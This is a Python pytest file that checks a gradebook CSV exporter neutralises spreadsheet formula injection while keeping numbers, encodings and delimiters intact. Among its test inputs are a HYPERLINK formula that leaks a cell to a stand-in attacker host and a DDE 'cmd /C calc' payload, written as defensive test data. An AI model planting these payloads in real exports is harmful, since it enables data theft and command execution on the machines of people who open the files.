"""Spreadsheet-safe CSV: formula injection neutralised, numbers kept, Excel-friendly encoding."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from lms.csvsafe import BOM, csv_bytes, iter_csv, safe_cell


def read_back(data: bytes, delimiter=","):
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+49 30 1234",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "   =cmd|' /C calc'!A0",
        "\uff1d1+1",
        "-",
        "-5",  # a number given as text is text
        "=",
    ],
)
def test_formula_starts_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value
    assert read_back(csv_bytes([[value]])) == [["'" + value]]


@pytest.mark.parametrize(
    "value",
    ["Иван Петров", "O'Brien", "a=b", "1+1", "user@example.com", "", "Zoë 😀", "שלום"],
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, "-5"),
        (0, "0"),
        (Decimal("-3.50"), "-3.50"),
        (Decimal("87.25"), "87.25"),
        (-1.5, "-1.5"),
        (None, ""),
        (True, "True"),
        (date(2025, 6, 1), "2025-06-01"),
        (datetime(2025, 6, 1, 9, 30, tzinfo=UTC), "2025-06-01T09:30:00+00:00"),
    ],
)
def test_real_values_are_written_unchanged(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Decimal("-Infinity"), "'-Infinity"),
        (float("-inf"), "'-inf"),
        (Decimal("NaN"), "NaN"),
        (Decimal("sNaN"), "sNaN"),
    ],
)
def test_non_finite_numbers_are_text(value, expected):
    assert safe_cell(value) == expected


def test_gradebook_export_reads_back_with_bom_crlf_and_cyrillic():
    header = ["Trainee", "E-mail", "Quiz 1", "Course grade", "Note"]
    rows = [
        ["Мария Иванова-Петрова", "maria@example.bg", Decimal("92.50"), Decimal("88.00"), ""],
        ["=cmd|' /C calc'!A0", "-x@example.com", 0, Decimal("-1"), "line one\nline two"],
        ['Quote " and, comma; semi', "a@b.c", Decimal("7.5"), None, "\t@tab"],
    ]
    data = csv_bytes(rows, header)
    assert data.startswith(BOM.encode())
    assert data.count(b"\r\n") == 4  # one per record; the embedded \n is inside quotes
    assert read_back(data) == [
        header,
        ["Мария Иванова-Петрова", "maria@example.bg", "92.50", "88.00", ""],
        ["'=cmd|' /C calc'!A0", "'-x@example.com", "0", "-1", "line one\nline two"],
        ['Quote " and, comma; semi', "a@b.c", "7.5", "", "'\t@tab"],
    ]


def test_header_cells_are_neutralised_too():
    assert read_back(csv_bytes([], ["=A1", "ok"])) == [["'=A1", "ok"]]


def test_semicolon_delimiter():
    data = csv_bytes(
        [["Петър; Иванов", Decimal("4.5")], ["+1", 2]], ["name", "grade"], delimiter=";"
    )
    assert data.decode("utf-8-sig").splitlines()[0] == "name;grade"
    assert read_back(data, delimiter=";") == [
        ["name", "grade"],
        ["Петър; Иванов", "4.5"],
        ["'+1", "2"],
    ]


def test_other_delimiters_are_refused():
    with pytest.raises(ValueError, match="delimiter"):
        csv_bytes([["a"]], delimiter="\t")


def test_streaming_yields_lines_with_the_bom_first_only():
    chunks = list(iter_csv(([i, f"=r{i}"] for i in range(3)), ["n", "v"]))
    assert chunks == [BOM + "n,v\r\n", "0,'=r0\r\n", "1,'=r1\r\n", "2,'=r2\r\n"]
    assert list(iter_csv([])) == [BOM]


def test_control_characters_and_lone_surrogates_are_safe():
    data = csv_bytes([["nul\x00here", "bell\x07", "bad\ud800half"]])
    assert read_back(data) == [["nul\x00here", "bell\x07", "bad\ufffdhalf"]]
